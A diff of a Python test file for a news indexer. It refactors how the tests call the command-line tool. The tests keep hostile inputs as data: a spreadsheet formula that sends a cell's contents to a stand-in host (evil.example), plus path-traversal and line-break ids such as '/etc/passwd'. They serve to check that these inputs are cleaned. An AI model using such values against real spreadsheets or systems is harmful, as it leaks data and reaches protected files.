@@ -9,10 +9,7 @@ import io
 import json
 import os
 import re
-import subprocess
-import sys
 from html.parser import HTMLParser
-from pathlib import Path
 from urllib.parse import quote
 from xml.etree import ElementTree
 
@@ -25,7 +22,7 @@ from indexer.normalize.clean import clean_body, clean_fields, clean_text, clean_
 from indexer.pipeline import build_index
 from webapp import create_app, marked
 
-from .conftest import ROOT
+from .conftest import ROOT, run_cli
 
 MAX_BYTES = 64 * 1024  # a small cap, so the oversized file stays small
 TEMPLATES = ROOT / "webapp" / "templates"
@@ -367,23 +364,8 @@ def test_the_marked_filter_lets_only_mark_through():
 # Inputs found by attacking newsindex (issue 18): each is cleaned or skipped with its reason,
 # and no page, feed, export or CLI answer breaks on it.
 
-NEWSINDEX = Path(sys.executable).parent / "newsindex"
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
 BAD_IDS = ["line\r\nbreak", "/etc/passwd", ".", "..", "x/../y"]
-
-
-def _cli(index_dir: Path, *args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
-    """Run the real CLI on an index folder."""
-    env = {**os.environ, "NEWSINDEX_INDEX_DIR": str(index_dir)}
-    return subprocess.run(
-        [str(NEWSINDEX), *args],
-        cwd=cwd,
-        env=env,
-        capture_output=True,
-        text=True,
-        stdin=subprocess.DEVNULL,
-        timeout=300,
-    )
 
 
 def _line(**fields: str) -> str:
@@ -424,7 +406,7 @@ def attacked(tmp_path_factory):
         os.mkdir(deep)
     (deep / "bottom.txt").write_text("Bottom\n\nAt the bottom of the folders.\n")
     try:
-        yield root, _cli(root / "index", "rebuild", "in", cwd=root)
+        yield root, run_cli(["rebuild", "in"], root, root / "index", timeout=300)
     finally:
         while deep != folder:  # shutil.rmtree (pytest's clean-up) recurses too deep for this
             for child in deep.iterdir():
@@ -484,7 +466,7 @@ def test_bad_characters_break_no_page_feed_or_cli_answer(feed_index, attacked_cl
         feed = client.get(f"/feed.atom{query}").get_data()
         ElementTree.fromstring(feed)  # well-formed XML: raises otherwise
         assert "Non-character \ufffd cocoa".encode() in feed
-    done = _cli(feed_index / "index", "search", "--json", "surrogate", cwd=feed_index)
+    done = run_cli(["search", "--json", "surrogate"], feed_index, feed_index / "index", timeout=300)
     assert done.returncode == 0, done.stderr[-2000:]
     assert json.loads(done.stdout)["hits"][0]["title"] == "Lone surrogate \ufffd cocoa"
 
